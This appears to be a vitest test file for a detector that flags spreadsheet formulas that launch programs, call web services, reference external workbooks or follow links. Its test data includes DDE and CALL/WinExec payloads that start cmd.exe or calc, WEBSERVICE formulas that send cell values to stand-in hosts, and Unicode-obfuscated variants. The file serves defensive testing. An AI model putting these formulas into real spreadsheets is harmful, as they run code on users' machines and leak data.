import { expect, test } from 'vitest';
import { calloutOf } from './formula-callout.ts';

test.each([
  ["cmd|'/c calc'!A0", 'program'],
  ["cmd|' /C calc'!'A0'", 'program'],
  ["'cmd'|'/c calc'!A0", 'program'],
  ["'cmd|/c calc'!A0", 'program'],
  ["1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", 'program'],
  ['DDE("soffice";"a.ods";"A1")', 'program'],
  ['RTD("x.y",,"a")', 'program'],
  ['CALL("Kernel32","WinExec","JCJ","calc",0)', 'program'],
  ['REGISTER.ID("Kernel32","GetTickCount")', 'program'],
  ['EXEC("calc")', 'program'],
  ['EVALUATE(A1)', 'program'],
  ['_xlfn.WEBSERVICE("http://h/"&A1)', 'function'],
  ['_xlfn._xlws.WEBSERVICE(A1)', 'function'],
  ['iferror( webService  (A1),0)', 'function'],
  ['FILTERXML(_xlfn.WEBSERVICE(A1),"//x")', 'function'],
  ['_xlfn.IMAGE("https://h/p.png")', 'function'],
  ['MAP(A1:A3,_xleta.WEBSERVICE)', 'function'],
  ['IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://docs"",""A1"")"),5)', 'function'],
  ['IMPORTDATA(A1)', 'function'],
  ['ImportXml(A1,"//a")', 'function'],
  ['IMPORTHTML(A1,"table",1)', 'function'],
  ['CUBEVALUE("con","[a]")', 'function'],
  ['[1]Лист!A1', 'book'],
  ['SUM([1]Sheet1!$A$1:$B$2)', 'book'],
  ["'[Отчёт 2026.xlsx]Лист 1'!A1", 'book'],
  ["'\\\\host\\share\\[b.xlsx]S'!A1", 'book'],
  ["'https://host/[b.xlsx]S'!A1", 'book'],
  ["'file:///tmp/b.ods'#$S.A1", 'book'],
  ['[1]!Name', 'book'],
  ['[Book1.xlsx]Sheet1!A1', 'book'],
  ['HYPERLINK("http://other.host/")', 'link'],
  ['HYPERLINK("\\\\host\\share")', 'link'],
  ['HYPERLINK("mailto:"&A1,"x")', 'link'],
  ['HYPERLINK(A1,"x")', 'link'],
  ['_xlfn.HYPERLINK ( "file:///c:/x" )', 'link'],
  [`INDIRECT("'http://host/x.ods'#$Sheet1.A1")`, 'book'],
  [`INDIRECT("'file:///tmp/x.ods'#$Sheet1.A1",1)`, 'book'],
  [`SUM(indirect ( "'https://host/[b.xlsx]S'!A1" ))`, 'book'],
  ['INDIRECT("[b.xlsx]S!A1")', 'book'],
  [`INDIRECT("'"&"http://host/x.ods'#$S.A1")`, 'book'],
  ['INDIRECT(A1)', 'book'],
  ['INDIRECT(CHAR(39)&A1)', 'book'],
  ['MAP(A1:A3,_xleta.INDIRECT)', 'book'],
  ['TEXTREF("[b.xlsx]S!A1")', 'book'],
  ['WEBSERVICE\u00a0(A1)', 'function'],
  ['1&\u00a0_xlfn.WEBSERVICE(A1)', 'function'],
  ['1&\u200b_xlfn.WEBSERVICE(A1)', 'function'],
  ['1&\u3000WEB\u200bSERVICE\u2003(A1)', 'function'],
  ['ＷＥＢＳＥＲＶＩＣＥ（A1）', 'function'],
  ['COM.MICROSOFT.WEBSERVICE(A1)', 'function'],
  ['COM.MICROSOFT._xlfn.WEBSERVICE(A1)', 'function'],
  ['HYPERLINK("#http://other.host/")', 'link'],
])('%s reaches out: %s', (formula, kind) => {
  expect(calloutOf(formula)?.kind).toBe(kind);
});

test.each([
  'SUM(A1:B2)*2/3',
  'IF(A1="WEBSERVICE(x)","cmd|calc",0)',
  "'Лист 1'!A1+'It''s'!B2",
  "'Янв:Мар'!A1",
  'Table1[[#This Row],[Цена|руб]]',
  "SUM(Table1[A'[b])",
  'Table1[@Col]!A1',
  '[0]!Name',
  "'[0]Sheet'!Name",
  'HYPERLINK("#Лист1!A1","сюда")',
  'HYPERLINK("#"&A1)',
  'HYPERLINK("mailto:a@b.ru","письмо")',
  'FILTERXML(A1,"//x")',
  'RECALL(A1)+MYCALL(2)',
  'INDIRECT("B2")',
  `INDIRECT("'Лист 1'!A1:B2")+INDIRECT("R1C1",FALSE)`,
  'SUM(INDIRECT("Table1[Цена]"))',
  'МОЯ\u00a0+ 1',
  'CALL+1',
  '{1,2;3,4}',
  '',
  '"',
])('%s stays within its workbook', (formula) => {
  expect(calloutOf(formula)).toBeUndefined();
});

test('a bar in the name of a sheet of the workbook is no call of a program', () => {
  const listed = { isSheet: () => true, names: new Map() };
  expect(calloutOf("'http://evil.example/[book.xlsx]S'!A1", listed)).toEqual({ kind: 'book', what: 'book.xlsx' });
  expect(calloutOf("'a|b'!A1", { isSheet: (name) => name === 'a|b', names: new Map() })).toBeUndefined();
});

test('a list to choose from may be named in the cell beside it, not worked out', () => {
  const alone = { isSheet: () => false, names: new Map() };
  expect(calloutOf('INDIRECT($A1)', alone, 'cell')).toBeUndefined();
  expect(calloutOf('INDIRECT($A1&"x")', alone, 'cell')?.what).toBe('INDIRECT');
});

test('an address that is a name reaches where the name does', () => {
  const names = new Map([['MINE', { kind: 'function', what: 'WEBSERVICE' } as const]]);
  expect(calloutOf('INDIRECT("Mine")', { isSheet: () => false, names })?.what).toBe('WEBSERVICE');
});

test('a formula that uses a name reaches where the name does', () => {
  const names = new Map([['MINE', { kind: 'function', what: 'WEBSERVICE' } as const]]);
  expect(calloutOf('1+Mine', { isSheet: () => false, names })).toEqual({ kind: 'function', what: 'WEBSERVICE' });
});

test.each(['INDIRECT("', 'com.', '\u00a0', '[', "'", '"', '"a"', "['", '(', 'HYPERLINK(', '_xlfn.', 'a['])(
  'many of %s are read in time that grows with their number',
  (piece) => {
    const time = (times: number): number => {
      const formula = piece.repeat(times);
      const start = process.cpuUsage();
      calloutOf(`|${formula}`.slice(1) + '|');
      const { user, system } = process.cpuUsage(start);
      return (user + system) / 1000;
    };
    time(1000);
    expect(time(200_000)).toBeLessThan(500);
  },
);
